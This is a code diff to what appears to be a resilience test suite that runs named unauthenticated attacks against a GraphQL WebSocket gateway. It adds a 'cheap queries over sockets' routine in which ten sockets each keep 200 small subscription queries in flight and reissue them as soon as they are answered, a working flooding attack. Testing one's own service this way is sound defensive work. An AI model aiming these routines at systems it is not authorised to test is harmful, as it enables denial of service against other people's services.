@@ -117,7 +117,9 @@ async function openWebSocket({ host, port }: Victim): Promise<WebSocket> {
   });
   socket.on('error', () => undefined);
   await Promise.race([once(socket, 'open'), once(socket, 'close'), delay(PATIENCE_MS)]);
-  if (isOpen(socket)) socket.send(JSON.stringify({ type: 'connection_init' }));
+  if (!isOpen(socket)) return socket;
+  socket.send(JSON.stringify({ type: 'connection_init' }));
+  await Promise.race([once(socket, 'message'), once(socket, 'close'), delay(PATIENCE_MS)]);
   return socket;
 }
 
@@ -146,6 +148,29 @@ const manySubscriptions: Attack = async (victim) => {
   socket.terminate();
 };
 
+const FLOODING_SOCKETS = 10;
+/** Cheap queries that a flooding socket has under way at any time; a gateway's own limit by default. */
+const FLOOD_IN_FLIGHT = 200;
+
+/** Sockets that ask for next to nothing, again as soon as they are answered. */
+const cheapQueries: Attack = async (victim) => {
+  const sockets = await Promise.all(Array.from({ length: FLOODING_SOCKETS }, () => openWebSocket(victim)));
+  let id = 0;
+  const ask = (socket: WebSocket): void => {
+    id += 1;
+    const payload = { query: '{ products(first: 1) { nodes { sku name } } }' };
+    if (isOpen(socket)) socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload }));
+  };
+  for (const socket of sockets) {
+    socket.on('message', (message: Buffer) => {
+      if (/"type":"(?:complete|error)"/.test(message.toString())) ask(socket);
+    });
+    for (let count = 0; count < FLOOD_IN_FLIGHT; count += 1) ask(socket);
+  }
+  await delay(PATIENCE_MS);
+  for (const socket of sockets) socket.terminate();
+};
+
 /** What a stranger can do without a login, by name. */
 export const attacks: Readonly<Record<string, Attack>> = {
   'resets during upgrades': resetUpgrade,
@@ -159,6 +184,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
   'a deep document': deepDocument,
   'a socket that does not read': deafSocket,
   'thousands of subscriptions': manySubscriptions,
+  'cheap queries over sockets': cheapQueries,
 };
 
 /** How many of each attack run side by side. */
